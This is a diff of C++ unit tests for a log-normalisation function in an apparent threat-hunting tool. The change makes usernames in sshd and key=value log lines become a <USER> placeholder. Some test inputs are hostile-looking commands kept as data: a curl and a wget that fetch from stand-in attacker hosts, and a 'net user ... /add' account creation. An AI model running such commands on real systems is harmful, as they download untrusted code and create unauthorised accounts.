@@ -21,7 +21,7 @@ using sqlhunt::clustering::Scale;
 TEST(Pattern, DocumentedExamples) {
   EXPECT_EQ(pattern("sleep 5"), "sleep <NUM>");
   EXPECT_EQ(pattern("Failed password for root from 61.184.247.3 port 4242 ssh2"),
-            "Failed password for root from <IP> port <NUM> ssh2");
+            "Failed password for <USER> from <IP> port <NUM> ssh2");
   EXPECT_EQ(pattern("C:\\Users\\alice\\AppData\\Local\\Temp\\tmp8f3a.ps1"),
             "C:\\Users\\<USER>\\AppData\\Local\\Temp\\<TMP>.ps1");
 }
@@ -59,7 +59,7 @@ TEST(Pattern, Addresses) {
   EXPECT_EQ(pattern("from fe80::1%eth0 and ::1 and [2001:db8::2]:22"), "from <IP> and <IP> and [<IP>]:<NUM>");
   EXPECT_EQ(pattern("mac 00:15:5d:01:02:03 00-15-5D-01-02-03"), "mac <MAC> <MAC>");
   EXPECT_EQ(pattern("999.1.1.1"), "<NUM>");  // no address: a dotted number
-  EXPECT_EQ(pattern("rhost=220-135-151-1.hinet-ip.hinet.net user=root"), "rhost=<HOST> user=root");
+  EXPECT_EQ(pattern("rhost=220-135-151-1.hinet-ip.hinet.net user=root"), "rhost=<HOST> user=<USER>");
   EXPECT_EQ(pattern("python3 setup.py install; bash run.sh"), "python3 setup.py install; bash run.sh");
   EXPECT_EQ(pattern("curl http://evil.example.com:8080/a/b?x=1"), "curl http://<HOST>:<NUM>/a/b?x=<NUM>");
   EXPECT_EQ(pattern("wget https://1.2.3.4/x.sh"), "wget https://<IP>/x.sh");
@@ -90,7 +90,12 @@ TEST(Pattern, UserAndTempPaths) {
   EXPECT_EQ(pattern("Invalid user admin from 1.2.3.4"), "Invalid user <USER> from <IP>");
   EXPECT_EQ(pattern("check pass; user unknown"), "check pass; user unknown");
   EXPECT_EQ(pattern("net user alice P4ss /add"), "net user <USER> P4ss /add");
-  EXPECT_EQ(pattern("x user=root"), "x user=root");  // key=value is a field, not prose
+  // A key naming an account: its value.
+  EXPECT_EQ(pattern("x user=root ruser= rhost=h acct=\"alice\" logname="), "x user=<USER> ruser= rhost=h acct=\"<USER>\" logname=");
+  // sshd's "<method> for <account> from"; "invalid" there is not the account.
+  EXPECT_EQ(pattern("Accepted publickey for git from 10.0.0.1 port 22 ssh2"), "Accepted publickey for <USER> from <IP> port <NUM> ssh2");
+  EXPECT_EQ(pattern("Failed none for invalid user x from ::1"), "Failed none for invalid user <USER> from <IP>");
+  EXPECT_EQ(pattern("waiting for data from x"), "waiting for data from x");
 }
 
 TEST(Pattern, Base64) {
@@ -102,7 +107,7 @@ TEST(Pattern, Base64) {
 TEST(Pattern, KeepsTextAndWhitespace) {
   EXPECT_EQ(pattern(""), "");
   EXPECT_EQ(pattern("  a\tb  "), "  a\tb  ");
-  EXPECT_EQ(pattern("rhost=<HOST>  user=root"), "rhost=<HOST>  user=root");
+  EXPECT_EQ(pattern("rhost=<HOST>  user=<USER>"), "rhost=<HOST>  user=<USER>");
 }
 
 TEST(Pattern, Idempotent) {
